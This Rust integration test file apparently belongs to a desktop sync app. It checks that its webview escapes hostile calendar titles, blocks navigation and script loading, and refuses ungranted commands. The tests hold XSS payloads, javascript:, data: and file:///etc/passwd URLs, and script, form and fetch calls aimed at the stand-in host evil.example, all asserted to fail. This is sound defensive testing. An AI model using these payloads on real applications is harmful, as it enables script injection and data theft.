//! What comes from servers is text, and the page can do what it is granted and nothing else.

use ponte_demo::sample::USER;
use ponte_desktop::wait::until;
use serde_json::{Value, json};

use crate::stage::{Stage, WORDS, say};

const EVIL: &str = "<img src=x onerror=\"document.title='pwned'\"><script>document.title='pwned'</script>";

#[tokio::test]
async fn a_title_is_text_and_a_location_leads_nowhere() {
    let Some(mut stage) = Stage::set("hostile texts").await else { return };
    stage.joined("");
    let window = stage.window(&[]).await;
    stage.synced().await;
    Stage::second_passes().await;
    stage.meets(EVIL, "javascript:document.title='pwned'");
    window.click(&say("window-sync-now")).await;
    let arrived =
        || async { stage.calendar.events(USER).iter().any(|event| event.text.contains("<img src=x")).then_some(()) };
    until("the hostile title in the calendar", arrived).await;
    window.click(&WORDS.say("window-page", &[("page", "activity")])).await;
    window.click_text(".run", "1 change").await;
    window.sees("<img src=x").await;
    assert_eq!(
        window.run("return document.querySelectorAll('main img, main script, main iframe').length", &[]).await,
        Some(json!(0))
    );
    assert_ne!(window.run("return document.title", &[]).await, Some(json!("pwned")));
}

#[tokio::test]
async fn the_page_goes_nowhere_loads_nothing_and_calls_only_what_it_is_granted() {
    let Some(mut stage) = Stage::set("a hostile page").await else { return };
    stage.joined("");
    let window = stage.window(&[]).await;
    let here = window.run("return location.href", &[]).await.unwrap();
    for script in [
        "location.href = 'https://evil.example/'",
        "location.href = 'javascript:document.title=\"pwned\"'",
        "location.assign('data:text/html,<title>pwned</title>')",
        "location.replace('file:///etc/passwd')",
        "window.open('https://evil.example/')",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"document.title=`pwned`\">')",
        "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"https://evil.example\"></iframe>')",
        "const s = document.createElement('script'); s.textContent = 'document.title=\"pwned\"'; document.body.append(s)",
        "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)",
        "const f = document.createElement('form'); f.action = 'https://evil.example/'; document.body.append(f); f.submit()",
    ] {
        let _ = window.run(script, &[]).await;
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
        assert_eq!(window.run("return location.href", &[]).await.as_ref(), Some(&here), "{script}");
        assert_ne!(window.run("return document.title", &[]).await, Some(json!("pwned")), "{script}");
    }
    let fetched = "fetch(arguments[0]).then(() => arguments[1](true), () => arguments[1](false))";
    for address in [stage.crm.url(), "https://evil.example/".to_owned(), "file:///etc/passwd".to_owned()] {
        assert_eq!(window.run_later(fetched, &[json!(address)]).await, Some(json!(false)), "{address}");
    }
    let evaluated = "try { return eval('1') } catch (error) { return String(error.name) }";
    assert_eq!(window.run(evaluated, &[]).await, Some(json!("EvalError")));
}

#[tokio::test]
async fn commands_that_are_not_granted_are_refused() {
    let Some(mut stage) = Stage::set("commands").await else { return };
    stage.joined("");
    let window = stage.window(&[]).await;
    for command in [
        "plugin:opener|open_url",
        "plugin:opener|open_path",
        "plugin:window-state|save_window_state",
        "plugin:window|create",
        "plugin:webview|create_webview_window",
        "plugin:webview|internal_toggle_devtools",
        "plugin:app|version",
        "plugin:path|resolve_directory",
        "plugin:event|emit",
        "plugin:updater|check",
        "plugin:shell|execute",
        "plugin:fs|read_file",
        "no_such_command",
    ] {
        let arguments =
            json!({"url": "https://evil.example", "path": "/etc/passwd", "event": "changed", "payload": Value::Null});
        assert!(window.invoke(command, arguments).await.is_err(), "{command}");
    }
    assert!(window.invoke("overview", json!({})).await.is_ok());
    let nowhere = window.invoke("sync_now", json!({"pairing": EVIL})).await.unwrap_err();
    assert!(nowhere["sentence"].is_string(), "a refusal is a sentence: {nowhere}");
    let everything = window
        .run("return JSON.stringify([document.documentElement.innerHTML, {...localStorage}])", &[])
        .await
        .unwrap();
    for secret in [ponte_demo::sample::CRM_KEY, ponte_demo::sample::PASSWORD] {
        assert!(!everything.as_str().unwrap().contains(secret), "no secret reaches the page");
    }
    window.sees(&say("window-sync-now")).await;
}
